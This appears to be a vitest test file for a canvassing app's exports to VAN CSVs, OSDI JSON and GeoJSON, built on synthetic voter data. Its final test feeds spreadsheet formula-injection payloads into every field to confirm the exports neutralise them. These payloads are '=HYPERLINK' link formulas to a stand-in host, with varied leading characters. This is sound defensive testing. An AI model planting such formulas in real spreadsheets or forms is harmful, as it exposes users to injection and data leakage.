import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { phone, testId } from '../doc/testing.ts'
import { buildingId } from './address.ts'
import { must } from '../base/result.ts'
import { matchPoints } from './import/points.ts'
import { packBase } from './pack-base.ts'
import { EXPORT_COLUMNS, visitsCsv, type ExportWords } from './export.ts'
import { countVisits, visitsOfDays, type Days } from './export-days.ts'
import { doorsGeoJson, osdiJson } from './export-open.ts'
import { VAN_CONTACT_COLUMNS, VAN_SURVEY_COLUMNS, vanContacts, vanSurvey } from './export-van.ts'
import { sampleTown } from './town.ts'
import { fillTurf } from './turf.actions.ts'
import { turfKind } from './turf.ts'
import { RESULTS, type Door, type Target, type Voter } from './types.ts'
import { addResident, correctVisit, recordVisit, setCanvasserName, undoVisit } from './visits.actions.ts'
import { visitsKind } from './visits.ts'

const SIGN = { id: testId('sign'), order: 1, text: 'Want a sign?', kind: 'choice' as const, choices: ['Yes', 'No'] }
const WHY = { id: testId('why'), order: 2, text: 'Why?', kind: 'text' as const, choices: [] }
const NOON = new Date(2026, 10, 22, 12, 5, 9).getTime()
const base = sampleTown({ voters: 60 })
const votersAt = (door: Door): Voter[] => base.voters.filter(voter => voter.door === door.id)
const HOUSE = base.doors.find(door => votersAt(door).length > 1 && door.address.unit === '')!
const EMPTY = base.doors.find(door => votersAt(door).length === 0)!
const FLAT = base.doors.find(door => door.address.unit !== '')!
const door = (one: Door): Target => ({ level: 'door', id: one.id })
const person = (one: { id: string }): Target => ({ level: 'person', id: one.id })

function start() {
  const olga = phone(turfKind, 'olga', 'organizer')
  olga.act(fillTurf, { name: 'Oak', groupName: 'Us', part: packBase(base)[0]!, questions: [SIGN, WHY] })
  const sam = phone(visitsKind, 'sam')
  sam.act(setCanvasserName, { name: 'Sam' })
  const turfs = () => [{ name: 'Oak', turf: olga.view(), visits: sam.view() }]
  return { sam, turfs }
}
const COLUMNS = Object.fromEntries(EXPORT_COLUMNS.map(column => [column, column])) as ExportWords['columns']
const CODES = Object.fromEntries(RESULTS.map(code => [code, code])) as ExportWords['results']
const read = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true })

test('VAN contacts: the columns of its own export and one a question; a person a row', () => {
  const { sam, turfs } = start()
  const [voter] = votersAt(HOUSE) as [Voter]
  sam.act(recordVisit, { id: testId('1'), target: person(voter), door: HOUSE.id, result: 'refused' }, NOON)
  const answers = { [SIGN.id]: 'Yes', [WHY.id]: '=HYPERLINK("x")' }
  sam.act(
    correctVisit,
    { id: testId('2'), replaces: testId('1'), result: 'canvassed', literature: false, note: '', answers },
    NOON + 60_000,
  )
  const { text, rows, left } = vanContacts(turfs(), [SIGN, WHY])
  const { data, meta } = read(text)
  expect(meta.fields).toEqual([...VAN_CONTACT_COLUMNS, 'Want a sign?', 'Why?'])
  expect(data).toEqual([
    {
      'Voter File VANID': voter.sourceId,
      'Contact Name': [voter.first, voter.middle, voter.last, voter.suffix].filter(Boolean).join(' '),
      'Date Canvassed': '11/22/2026',
      Result: 'Canvassed',
      'Contact Type': 'Walk',
      'Canvassed By': 'Sam',
      'Input Type Name': 'Porchlight',
      'MiniVAN Campaign': 'Oak',
      'Want a sign?': 'Yes',
      'Why?': `'=HYPERLINK("x")`,
    },
  ])
  expect([rows, left]).toEqual([1, 0])
})

test('VAN contacts: nobody home is said of everybody on the list there, a closed building of everybody in it', () => {
  const { sam, turfs } = start()
  sam.act(recordVisit, { id: testId('1'), target: door(HOUSE), door: HOUSE.id, result: 'not-home' }, NOON)
  const building = buildingId(FLAT.address)
  sam.act(recordVisit, { id: testId('2'), target: { level: 'building', id: building }, door: FLAT.id, result: 'inaccessible' }, NOON)
  sam.act(recordVisit, { id: testId('3'), target: door(EMPTY), door: EMPTY.id, result: 'not-home' }, NOON)
  sam.act(recordVisit, { id: testId('4'), target: door(HOUSE), door: HOUSE.id, result: 'address-not-found' }, NOON)
  sam.act(undoVisit, { id: testId('5'), visit: testId('4') })
  const { text, left } = vanContacts(turfs(), [])
  const rows = read(text).data.map(row => [row['Result'], row['Voter File VANID']])
  const inBuilding = base.voters.filter(voter => base.doors.some(one => one.id === voter.door && buildingId(one.address) === building))
  expect(rows.filter(([result]) => result === 'Not Home').map(([, id]) => id)).toEqual(votersAt(HOUSE).map(one => one.sourceId))
  expect(rows.filter(([result]) => result === 'Inaccessible').map(([, id]) => id)).toEqual(inBuilding.map(one => one.sourceId))
  expect(rows).toHaveLength(votersAt(HOUSE).length + inBuilding.length)
  expect(left).toBe(1)
})

test('VAN answers: a row an answer; who is not on the list is counted as left out; a note alone is no contact', () => {
  const { sam, turfs } = start()
  const [voter] = votersAt(HOUSE) as [Voter]
  const answers = { [SIGN.id]: 'No', [WHY.id]: 'Has one' }
  sam.act(recordVisit, { id: testId('1'), target: person(voter), door: HOUSE.id, answers }, NOON)
  sam.act(recordVisit, { id: testId('2'), target: door(HOUSE), door: HOUSE.id, note: 'Dog' }, NOON)
  sam.act(addResident, { id: testId('ana'), door: HOUSE.id, name: 'Ana' })
  sam.act(recordVisit, { id: testId('3'), target: { level: 'person', id: testId('ana') }, door: HOUSE.id, answers }, NOON)
  const { text, left } = vanSurvey(turfs(), [SIGN, WHY])
  const { data, meta } = read(text)
  expect(meta.fields).toEqual([...VAN_SURVEY_COLUMNS])
  expect(data.map(row => [row['Survey Question Name'], row['Survey Question Type'], row['Survey Response']])).toEqual([
    ['Want a sign?', 'Multiple Choice', 'No'],
    ['Why?', 'Open Ended', 'Has one'],
  ])
  expect(left).toBe(1)
  expect(read(vanContacts(turfs(), []).text).data.map(row => row['Result'])).toEqual(['Canvassed'])
})

test('GeoJSON: every door with how it stands, longitude first; one without a place has no geometry', () => {
  const { sam, turfs } = start()
  sam.act(recordVisit, { id: testId('1'), target: door(HOUSE), door: HOUSE.id, result: 'not-home' }, NOON)
  const { type, features } = JSON.parse(doorsGeoJson(turfs()))
  expect(type).toBe('FeatureCollection')
  expect(features).toHaveLength(base.doors.length)
  const house = features.find((one: { id: string }) => one.id === HOUSE.id)
  expect(house.geometry).toEqual({ type: 'Point', coordinates: [HOUSE.at!.lon, HOUSE.at!.lat] })
  expect(house.properties).toMatchObject({ turf: 'Oak', state: 'not-home', visits: 1, lastVisit: new Date(NOON).toISOString() })
  const [bare] = turfs()
  const without = { ...bare!, turf: { ...bare!.turf, base: { ...base, doors: [{ ...HOUSE, at: undefined }] } } }
  expect(JSON.parse(doorsGeoJson([without])).features[0].geometry).toBeNull()
})

test('[C6] the map of the doors comes back in as address points: every door where it was', async () => {
  const bare = base.doors.map(({ id, address, precinct }) => ({ id, address, precinct }))
  const { found } = must(await matchPoints(new Blob([doorsGeoJson(start().turfs())]), bare))
  expect(new Map(found.map(({ door, lat, lon }) => [door, { lat, lon }]))).toEqual(new Map(base.doors.map(one => [one.id, one.at])))
})

test('[C7] only the visits of some days go out: a correction with its visit, by the day of the door', () => {
  const { sam, turfs } = start()
  const day = 24 * 3_600_000
  const visit = (name: string, result: 'not-home' | 'inaccessible', at: number) =>
    sam.act(recordVisit, { id: testId(name), target: door(HOUSE), door: HOUSE.id, result }, at)
  visit('1', 'not-home', NOON)
  visit('2', 'not-home', NOON + day)
  sam.act(
    correctVisit,
    { id: testId('3'), replaces: testId('1'), result: 'address-not-found', literature: false, note: '', answers: {} },
    NOON + 2 * day,
  )
  visit('4', 'not-home', NOON + 2 * day)
  sam.act(undoVisit, { id: testId('5'), visit: testId('4') }, NOON + 3 * day)
  const out = (days: Days) => {
    const some = visitsOfDays(turfs(), days)
    const rows = read(visitsCsv(some, [], { columns: COLUMNS, results: CODES, yes: 'x' })).data.map(row => [
      row['resultCode'],
      row['when']!.slice(0, 10),
    ])
    expect(countVisits(some)).toBe(rows.length)
    return rows.toSorted()
  }
  const [first, second] = [
    ['address-not-found', '2026-11-22'],
    ['not-home', '2026-11-23'],
  ]
  expect(out({})).toEqual([first, second])
  expect(out({ from: '2026-11-23' })).toEqual([second])
  expect(out({ to: '2026-11-22' })).toEqual([first])
  expect(out({ from: '2026-11-22', to: '2026-11-23' })).toEqual([first, second])
  expect(out({ from: '2026-11-24' })).toEqual([])
  expect(visitsOfDays(turfs(), {})).toHaveLength(1)
})

test('OSDI: people, canvasses and questions by its names, tied by identifiers', () => {
  const { sam, turfs } = start()
  const [voter] = votersAt(HOUSE) as [Voter]
  sam.act(recordVisit, { id: testId('1'), target: person(voter), door: HOUSE.id, result: 'canvassed', answers: { [SIGN.id]: 'Yes' } }, NOON)
  sam.act(addResident, { id: testId('ana'), door: HOUSE.id, name: 'Ana', language: 'es' })
  const { people, canvasses, questions } = JSON.parse(osdiJson(turfs(), [SIGN, WHY]))
  expect(people).toHaveLength(base.voters.length + 1)
  expect(people.find((one: { given_name: string }) => one.given_name === 'Ana')).toMatchObject({
    identifiers: [`porchlight:${testId('ana')}`],
    languages_spoken: ['es'],
    custom_fields: { met_at_the_door: true, do_not_contact: false },
  })
  expect(canvasses).toHaveLength(1)
  expect(canvasses[0]).toMatchObject({ contact_type: 'walk', success: true, status_code: 'canvassed', person: `sample:${voter.sourceId}` })
  expect(people.some((one: { identifiers: string[] }) => one.identifiers[0] === canvasses[0].person)).toBe(true)
  expect(canvasses[0].answers).toEqual([{ question: questions[0].identifiers[0], responses: ['Yes'] }])
  expect(questions.map((one: { question_type: string }) => one.question_type)).toEqual(['SingleChoice', 'Paragraph'])
})

test('[D1] support, voting, tags and a promise go into every file; VAN has a column only for what anybody said', () => {
  const { sam, turfs } = start()
  const [voter] = votersAt(HOUSE) as [Voter]
  const voting = { registered: 'yes', way: 'mail', when: '', how: 'by post' } as const
  const followUp = { on: '2026-11-28', what: 'bring a sign' }
  sam.act(
    recordVisit,
    { id: testId('1'), target: person(voter), door: HOUSE.id, support: 2, voting, followUp, tags: { sign: true, ride: false } },
    NOON,
  )
  sam.act(recordVisit, { id: testId('2'), target: door(HOUSE), door: HOUSE.id, safety: 'Dog', result: 'not-home' }, NOON + 1)
  const contacts = read(vanContacts(turfs(), []).text)
  expect(contacts.meta.fields).toEqual([
    ...VAN_CONTACT_COLUMNS,
    'Support',
    'Registered',
    'Vote Plan',
    'Vote Plan How',
    'Tags',
    'Follow Up',
    'Follow Up Date',
  ])
  expect(contacts.data[0]).toMatchObject({
    Result: 'Canvassed',
    Support: '2',
    'Vote Plan': 'mail',
    Tags: 'ride: no; sign',
    'Follow Up Date': '2026-11-28',
  })
  const answers = read(vanSurvey(turfs(), []).text).data.map(row => [row['Survey Question Name'], row['Survey Response']])
  expect(answers).toContainEqual(['Support', '2'])
  expect(answers).toContainEqual(['Vote Plan How', 'by post'])
  const osdi = JSON.parse(osdiJson(turfs(), [])) as {
    people: { custom_fields: object }[]
    canvasses: { success: boolean; custom_fields: object }[]
  }
  expect(osdi.canvasses[0]).toMatchObject({ success: true, custom_fields: { support: '2', followUp: 'bring a sign' } })
  expect(osdi.canvasses[1]).toMatchObject({ success: false, custom_fields: { safety: 'Dog' } })
  expect(osdi.people.map(one => one.custom_fields)).toContainEqual(expect.objectContaining({ support: 2, tags: ['sign'] }))
  const { features } = JSON.parse(doorsGeoJson(turfs())) as { features: { id: string; properties: object }[] }
  expect(features.find(one => one.id === HOUSE.id)?.properties).toMatchObject({ warnings: 1, openPromises: 1 })
})

test('[P8.7] whatever was said at a door, whoever said it, in no file does a cell begin like a formula, and all of it is there', () => {
  const olga = phone(turfKind, 'olga', 'organizer')
  const evil = (what: string, first = '=') => `${first}HYPERLINK("https://else.example/?${what}","${what}")`
  const asked = { id: testId('evil'), order: 1, text: evil('Question', '+'), kind: 'choice' as const, choices: [evil('Choice', '@'), 'No'] }
  olga.act(fillTurf, { name: evil('Turf', '\t'), groupName: evil('Group'), part: packBase(base)[0]!, questions: [asked, WHY] })
  const sam = phone(visitsKind, 'sam')
  sam.act(setCanvasserName, { name: evil('Sam', '-') })
  const said = {
    note: evil('Note', '\r'),
    issue: evil('Issue'),
    followUp: { on: '2026-11-28', what: evil('Promise', '+') },
    voting: { registered: 'yes', way: 'mail', when: evil('When', '-'), how: evil('How', '@') },
    tags: { '=SUM(1)': true, "'=1+1": false },
    safety: evil('Warning', '\t'),
    answers: { [asked.id]: evil('Choice', '@'), [WHY.id]: evil('Why') },
    paper: { knocker: evil('Knocker'), sheet: '2026-11-22 K7QM' },
  } as const
  for (const [i, voter] of votersAt(HOUSE).slice(0, 2).entries())
    expect(
      sam.act(recordVisit, { id: testId(`${i}`), target: person(voter), door: HOUSE.id, result: 'canvassed', ...said }, NOON + i),
    ).toBeUndefined()
  sam.act(addResident, { id: testId('new'), door: HOUSE.id, name: evil('Resident'), note: evil('ResidentNote', '+') })
  const turfs = [{ name: olga.view().name, turf: olga.view(), visits: sam.view() }]
  const words = {
    columns: Object.fromEntries(EXPORT_COLUMNS.map(column => [column, column])) as ExportWords['columns'],
    results: Object.fromEntries(RESULTS.map(code => [code, code])) as ExportWords['results'],
    yes: 'yes',
  }
  const questions = [asked, WHY]
  const files = [visitsCsv(turfs, questions, words), vanContacts(turfs, questions).text, vanSurvey(turfs, questions).text]
  for (const file of files) {
    const { data, errors } = Papa.parse<string[]>(file, { skipEmptyLines: true })
    expect(errors).toEqual([])
    expect(data.length).toBeGreaterThan(1)
    expect(data.flat().filter(cell => /^[\uFEFF]?[=+\-@\t\r]/.test(cell))).toEqual([])
  }
  for (const what of ['Note', 'Issue', 'Promise', 'How', 'Warning', 'Choice', 'Why', 'Knocker', 'Question', 'Turf'])
    expect(files[0]!.includes(`?${what}`), what).toBe(true)
  for (const what of ['Promise', 'How', 'Question', 'Choice', 'Knocker']) expect(files[1]!.includes(`?${what}`), what).toBe(true)
})
